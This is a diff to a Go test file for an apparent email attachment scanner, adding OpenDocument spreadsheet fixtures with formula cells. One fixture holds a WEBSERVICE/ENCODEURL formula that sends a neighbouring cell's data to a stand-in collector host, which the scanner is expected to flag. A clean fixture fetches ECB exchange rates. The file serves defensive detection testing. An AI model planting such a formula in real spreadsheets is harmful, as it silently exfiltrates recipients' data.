@@ -128,6 +128,14 @@ func odsLinked(target string) []byte {
 		`<table:table-row><table:table-cell office:value-type="float" office:value="5"><text:p>5</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet>`)
 }
 
+// odsFormula is a spreadsheet whose first cell holds formula (in
+// OpenDocument's syntax, escaped for XML) next to a cell of data.
+func odsFormula(formula string) []byte {
+	return odf(ctOds, `<office:spreadsheet><table:table table:name="Rates"><table:table-row>`+
+		`<table:table-cell table:formula="of:=`+formula+`" office:value-type="string" office:string-value="ok"><text:p>ok</text:p></table:table-cell>`+
+		`<table:table-cell office:value-type="string"><text:p>ACME-4471</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet>`)
+}
+
 // officeLinkCases are the documents, in the three wrappings of officeCases.
 func officeLinkCases() []officeCase {
 	return []officeCase{
@@ -182,6 +190,10 @@ func officeLinkCases() []officeCase {
 			action: policy.Quarantine, subject: "Budget", body: "The budget summary.\n", ctype: ctOds, file: "summary.ods",
 			data:  odsLinked("file://" + leakHost + "/share/budget.xlsx"),
 			wants: []relWant{{"heuristic", "remote-fetch", "/content.xml"}}},
+		{name: "ods-webservice-exfil", about: "OpenDocument spreadsheet whose cell calls WEBSERVICE with the next cell's content (ENCODEURL) on a host of the sender's choosing, as LibreOffice saves Excel's WEBSERVICE: the sheet's data leaves as it is calculated",
+			action: policy.Tag, subject: "Order form", body: "Please fill in the order form.\n", ctype: ctOds, file: "order.ods",
+			data:  odsFormula(`COM.MICROSOFT.WEBSERVICE(&quot;http://collect.example.net/c?k=&quot;&amp;COM.MICROSOFT.ENCODEURL([.B1]))`),
+			wants: []relWant{{"heuristic", "formula-web-fetch", "/content.xml"}}},
 		{name: "odt-linked-section-web", about: "OpenDocument text whose section is linked to a document on the web (text:section-source), which becomes the section's text, as Word's INCLUDETEXT",
 			action: policy.Quarantine, subject: "Terms", body: "Our terms.\n", ctype: ctOdt, file: "terms.odt",
 			data: odf(ctOdt, `<office:text><text:p>Terms</text:p><text:section text:name="Terms"><text:section-source xmlns:xlink="http://www.w3.org/1999/xlink" xlink:type="simple" xlink:href="https://files.example.net/terms.odt" text:filter-name="writer8"/>`+
@@ -233,6 +245,9 @@ func officeLinkClean() []Sample {
 		mail{from: colleague, subject: "Rates", root: multipart("mixed", text("Refresh the rates with Data > Refresh.\n"),
 			attach("application/vnd.ms-excel.sheet.binary.macroEnabled.12", "rates.xlsb", formats.XLSB(formats.XLSWorkbook{Sheets: []formats.XLSSheet{{Name: "Rates"}},
 				Connections: []formats.XLSBConnection{{Name: "Rates", URL: "https://www.example.com/rates.html"}}})))})
+	add(ok("ods-webservice-rates", "an OpenDocument spreadsheet reading the ECB's daily exchange rates with FILTERXML(WEBSERVICE(...)), as spreadsheet guides show"),
+		mail{from: colleague, subject: "Rates", root: multipart("mixed", text("Today's rates from the ECB.\n"),
+			attach(ctOds, "rates.ods", odsFormula(`COM.MICROSOFT.FILTERXML(COM.MICROSOFT.WEBSERVICE(&quot;https://www.ecb.europa.eu/stats/eurofxref/eurofxref-daily.xml&quot;);&quot;//Cube&quot;)`)))})
 	add(ok("ods-linked-sheet-intranet", "an OpenDocument spreadsheet referring to a workbook on the intranet file server (file://fileserver/...)"),
 		mail{from: colleague, subject: "Summary", root: multipart("mixed", text("The summary.\n"),
 			attach(ctOds, "summary.ods", odsLinked("file://fileserver/finance/budget.xlsx")))})
